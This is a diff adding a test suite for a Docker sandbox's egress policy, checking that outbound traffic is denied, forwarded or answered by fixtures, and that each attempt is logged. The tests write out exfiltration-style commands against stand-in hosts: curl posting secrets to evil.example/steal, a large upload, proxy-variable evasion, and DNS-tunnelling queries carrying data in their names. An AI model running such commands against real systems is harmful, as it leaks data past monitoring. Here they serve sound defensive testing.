@@ -1,0 +1,186 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import { expect, onTestFinished, test } from 'vitest';
+import { digestOf } from '../../../../src/base/digest.ts';
+import type { EgressEvent, EgressPolicy } from '../../../../src/contracts/egress.ts';
+import { connectEngine } from '../../../../src/sandbox/docker/connect-engine.ts';
+import { dockerEngine } from '../../../../src/sandbox/engine/docker-engine.ts';
+import { imageTag } from '../../../../src/sandbox/image/image.ts';
+import { type Reach, reachAny } from '../../../../src/sandbox/network/egress/reach.ts';
+import { openSession } from '../../../../src/sandbox/session/session.ts';
+import { EMPTY_SPEC, leasedSessions, stateFolder } from '../../docker-fixture.ts';
+import { request } from '../../engine/conformance.ts';
+
+const state = stateFolder();
+
+/** Runs a command in a Docker sandbox of that policy; `reach` stands for the way to public hosts. */
+async function watch(policy: EgressPolicy, command: string, reach?: Reach) {
+  await using session = await openSession(state);
+  const [id = ''] = leasedSessions(state);
+  const connection = await connectEngine();
+  const image = await imageTag();
+  const engine =
+    reach === undefined ? session : dockerEngine({ connection, image, session: id, runtime: null, reach });
+  await using sandbox = await engine.create({ ...EMPTY_SPEC, network: { gateway: null, policy } });
+  const { stdout, stderr } = await sandbox.run(request(command));
+  return { said: `${stdout}${stderr}`.trim(), events: await sandbox.egress() };
+}
+
+const DENY: EgressPolicy = { kind: 'deny' };
+const ALLOWED: EgressPolicy = { kind: 'allow', hosts: ['allowed.example'] };
+
+/** A server of this machine, in the place of every public host. */
+async function publicHost(): Promise<{ reach: Reach; seen: string[] }> {
+  const seen: string[] = [];
+  const server = createServer(async (incoming, outgoing) => {
+    const body = Buffer.concat(await incoming.toArray());
+    seen.push(`${incoming.method} ${incoming.headers.host} ${incoming.url} ${body}`);
+    outgoing.writeHead(207, { 'x-from': 'outside' }).end('from outside');
+  });
+  onTestFinished(() => void server.close());
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const address = server.address();
+  const port = typeof address === 'object' && address !== null ? address.port : 0;
+  return { seen, reach: () => reachAny({ host: '127.0.0.1', port }) };
+}
+
+const kinds = (events: readonly EgressEvent[]) => events.map(({ kind }) => kind);
+
+test('a request through the proxy is refused, and recorded with all that it would have said', async () => {
+  const { said, events } = await watch(
+    DENY,
+    'curl --silent --write-out "%{http_code}" "http://Evil.example:8080/steal?x=1" --header "X-Key: k" --data secret',
+  );
+  expect(said).toBe('evil.example cannot be reached from here.\n403');
+  expect(events).toEqual([
+    {
+      kind: 'http',
+      atMs: expect.any(Number),
+      host: 'evil.example',
+      port: 8080,
+      decision: 'denied',
+      method: 'POST',
+      path: '/steal?x=1',
+      headers: expect.arrayContaining([{ name: 'X-Key', value: 'k' }]),
+      body: { text: 'secret', size: 6, digest: digestOf('secret'), isWhole: true },
+    },
+  ]);
+});
+
+test('a tunnel is refused, and recorded', async () => {
+  const { said, events } = await watch(DENY, 'curl --silent --show-error https://evil.example/steal');
+  expect(said).toMatch(/403/);
+  expect(events).toMatchObject([{ kind: 'connect', host: 'evil.example', port: 443, decision: 'denied' }]);
+});
+
+test('a program that knows no proxy is led by the DNS to where it is seen all the same', async () => {
+  const { said, events } = await watch(
+    DENY,
+    `export -n http_proxy https_proxy; unset HTTP_PROXY HTTPS_PROXY ALL_PROXY all_proxy http_proxy https_proxy
+    curl --silent http://plain.example/path --data body; curl --silent --show-error https://secure.example/`,
+  );
+  expect(said).toMatch(/plain.example cannot be reached from here.*alert access denied/s);
+  expect(events.filter(({ kind }) => kind !== 'dns')).toMatchObject([
+    { kind: 'http', host: 'plain.example', port: 80, method: 'POST', path: '/path', body: { text: 'body' } },
+    { kind: 'tls', host: 'secure.example', port: 443, decision: 'denied' },
+  ]);
+  expect(events.flatMap((event) => (event.kind === 'dns' ? event.host : []))).toContain('plain.example');
+});
+
+test('whatever else is connected to a common port is recorded by the name that led there', async () => {
+  const script = `
+import socket
+s = socket.create_connection(('mail.example', 25)); s.sendall(b'\\x00 raw words'); s.shutdown(1); print(s.recv(9))
+t = socket.create_connection(('quiet.example', 22)); t.close()`;
+  const { said, events } = await watch(DENY, `python3 - <<'END'${script}\nEND`);
+  expect(said).toBe("b''");
+  expect(events.filter(({ kind }) => kind !== 'dns')).toMatchObject([
+    { kind: 'tcp', host: 'mail.example', port: 25, body: { text: '\0 raw words', isWhole: true } },
+    { kind: 'tcp', host: 'quiet.example', port: 22, body: { size: 0 } },
+  ]);
+});
+
+test('data in the names of DNS questions is recorded, of whatever type they are', async () => {
+  const script = `
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+for n in range(50):
+    for kind in (1, 16, 28):
+        name = b''.join(bytes([len(p)]) + p for p in (b'part%d' % n, b'tunnel', b'example')) + b'\\0'
+        s.sendto(struct.pack('>6H', n, 256, 1, 0, 0, 0) + name + struct.pack('>2H', kind, 1), ('127.0.0.1', 53))
+        s.recv(512)
+s.sendto(b'not a question', ('127.0.0.1', 53))`;
+  const { events } = await watch(DENY, `python3 - <<'END'${script}\nEND`);
+  const questions = events.flatMap((event) => (event.kind === 'dns' ? `${event.host} ${event.type}` : []));
+  expect(questions).toHaveLength(151);
+  for (const type of ['A', 'TXT', 'AAAA']) expect(questions).toContain(`part49.tunnel.example ${type}`);
+  expect(questions).toContain('not a question unreadable');
+});
+
+test('a fixture answers the requests that it is for, and no other', async () => {
+  const fixtures = [
+    { method: 'GET', url: '^http://api\\.example/v1/', status: 202, headers: { 'x-a': 'b' }, body: '{}' },
+  ];
+  const { said, events } = await watch(
+    { kind: 'fixtures', fixtures },
+    `curl --silent --include http://api.example/v1/items; echo; curl --silent http://api.example/v1/items --data x`,
+  );
+  expect(said).toMatch(/^HTTP\/1.1 202.*x-a: b.*\{\}\napi.example cannot be reached/s);
+  expect(events.map((event) => event.kind === 'http' && event.decision)).toEqual(['fixture', 'denied']);
+});
+
+test('an allowed host is reached for real, by its own name, and no other is', async () => {
+  const { reach, seen } = await publicHost();
+  const { said, events } = await watch(
+    ALLOWED,
+    `curl --silent --include http://allowed.example/a?b --data up --header 'Host: other.example'; echo
+    curl --silent http://other.example/ --header 'Host: allowed.example'
+    curl --silent --proxytunnel --write-out '%{http_code}' http://allowed.example/tunnelled`,
+    reach,
+  );
+  expect(said).toMatch(
+    /^HTTP\/1.1 207.*x-from: outside.*from outside\nother.example cannot.*from outside207$/s,
+  );
+  expect(seen).toEqual(['POST allowed.example /a?b up', 'GET allowed.example /tunnelled ']);
+  expect(events).toMatchObject([
+    { kind: 'http', host: 'allowed.example', decision: 'forwarded', body: { text: 'up' } },
+    { kind: 'http', host: 'other.example', decision: 'denied' },
+    { kind: 'connect', host: 'allowed.example', port: 80, decision: 'forwarded' },
+  ]);
+});
+
+test('an allowed name that leads to this machine or its network is not followed', async () => {
+  const server = createServer((_incoming, outgoing) => outgoing.end('reached'));
+  onTestFinished(() => void server.close());
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const address = server.address();
+  const port = typeof address === 'object' && address !== null ? address.port : 0;
+  const hosts = [`localhost:${port}`, `127.0.0.1:${port}`];
+  const { said } = await watch(
+    { kind: 'allow', hosts },
+    `for host in ${hosts.join(' ')}; do curl --silent --noproxy '' --write-out ' %{http_code} ' http://$host/; done`,
+  );
+  expect(said).not.toContain('reached\n');
+  expect(said.match(/502/g)).toHaveLength(2);
+});
+
+test('a body is kept in part and measured in full', async () => {
+  const { events } = await watch(
+    DENY,
+    'head -c 3M /dev/zero | curl --silent http://evil.example/ --upload-file -',
+  );
+  const whole = Buffer.alloc(3 * 1024 ** 2);
+  expect(kinds(events)).toEqual(['http']);
+  expect(events).toMatchObject([
+    { body: { size: whole.length, digest: digestOf(whole), isWhole: false, text: '\0'.repeat(16 * 1024) } },
+  ]);
+});
+
+test('a sandbox without a network records nothing and answers nothing', async () => {
+  await using engine = await openSession(state);
+  await using sandbox = await engine.create(EMPTY_SPEC);
+  expect((await sandbox.run(request('curl --silent http://evil.example/'))).exitCode).toBe(6);
+  expect(await sandbox.egress()).toEqual([]);
+});
